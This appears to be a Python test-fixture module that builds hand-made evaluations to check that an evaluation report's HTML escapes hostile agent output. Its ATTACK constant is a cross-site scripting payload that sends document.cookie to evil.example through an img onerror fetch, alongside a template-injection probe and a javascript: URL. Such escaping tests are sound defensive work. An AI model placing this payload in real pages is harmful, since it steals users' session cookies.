"""Whole evaluations made by hand, among them what a hostile agent might send."""

from backend.protocol.events import Event, WarningEvent
from evals.evaluation.assembly import assemble
from evals.files.evaluation import Evaluation
from evals.playing.harness import Effort
from evals.playing.runner import PlayedRun, PlayedSuite
from evals.report.choice import choose
from evals.report.page import report_html
from evals.report.waterfalls import RunEvents
from evals.results.models import Results, Target
from evals.scoring.scored_run import score
from evals.suites.suite_file import parse_suite
from evals.wire.exchange import Capture
from tests.evals.captures import BASE_NS, capture, play, played
from tests.metrics.traces import citation, done, status, token

ATTACK = "</script><img src=x onerror=\"fetch('http://evil.example/'+document.cookie)\"><b>{{ 7*7 }}"
"""A text that must be shown and never act."""

SCRIPT: list[tuple[float, Event]] = [
    (0, status("retrieving", label="Searching")),
    (400, status("retrieving", "finished")),
    (410, citation(1, title="A source")),
    (500, token("Up [1]. ")),
    (550, token("And [2].")),
    (700, citation(2, title="A late source")),
    (900, done()),
]


def late(by_ms: float) -> list[tuple[float, Event]]:
    """The script's run, each event ``by_ms`` after its moment on the wire and 1 ms after it on the server."""
    return [(at_ms + by_ms, event.model_copy(update={"at_ms": at_ms + 1})) for at_ms, event in SCRIPT]


def evaluation(*runs: PlayedRun, unfinished: int = 0) -> Evaluation:
    """These runs as a finished evaluation."""
    suite = parse_suite(b"suite: made\ndescription: Made by hand.\nruns: [{agent: made}]\n", "made.yaml")
    effort = Effort([0.1, 0.2, 5.0], cpu_share=0.02, load_before=0.5, load_after=0.7, lasted_s=12.3)
    suite_played = PlayedSuite(list(runs), 1, unfinished, effort)
    scored = [score(run) for run in runs]
    target = Target(url="http://127.0.0.1:1", started_here=True)
    return Evaluation(assemble(suite, target, suite_played, scored), scored)


def report(made: Evaluation, results: Results | None = None) -> str:
    """The report of an evaluation, or of other results of the same runs."""
    shown = made.results if results is None else results
    choice = choose(shown.runs)
    runs = {place: made.runs[place].wire for place in choice.shown}
    events = {place: RunEvents(run.events, run.times_ms) for place, run in runs.items() if run.events}
    return report_html(shown, choice, events)


def good_evaluation() -> Evaluation:
    """Two scenarios, three runs of one and two of the other, all as scripted."""
    scripted = play("scripted:late", plan=SCRIPT, violations={"citation-first": 1})
    plain = play("documents", question="Is it rising?")
    answer: list[tuple[float, Event]] = [
        (5, status("s")),
        (80, token("Yes.")),
        (90, status("s", "finished")),
        (95, done()),
    ]
    runs = [played(capture(late(by)), scripted, repeat) for repeat, by in enumerate((6, 9, 12), start=1)]
    return evaluation(*runs, *(played(capture(answer), plain, repeat) for repeat in (1, 2)))


def hostile_evaluation() -> Evaluation:
    """Agents, questions, labels, titles, warnings and refusals that try to become part of the page."""
    said: list[tuple[float, Event]] = [
        (5, status(ATTACK, label=ATTACK, detail=ATTACK)),
        (10, citation(1, title=ATTACK, url="javascript:alert(1)")),
        (15, WarningEvent(code=ATTACK, message=ATTACK)),
        (20, token(f"{ATTACK} [1].")),
        (2000, status(ATTACK, "finished")),
        (2010, done()),
    ]
    refused = Capture(connect_ns=1, sent_ns=BASE_NS, closed_ns=BASE_NS + 9)
    refused.chunks.append((BASE_NS + 5, b"HTTP/1.1 500 No\r\n\r\n" + ATTACK.encode()))
    hostile = play(f"agent:{ATTACK}", question=ATTACK)
    return evaluation(played(capture(said), hostile, 1), played(refused, hostile, 2), unfinished=3)
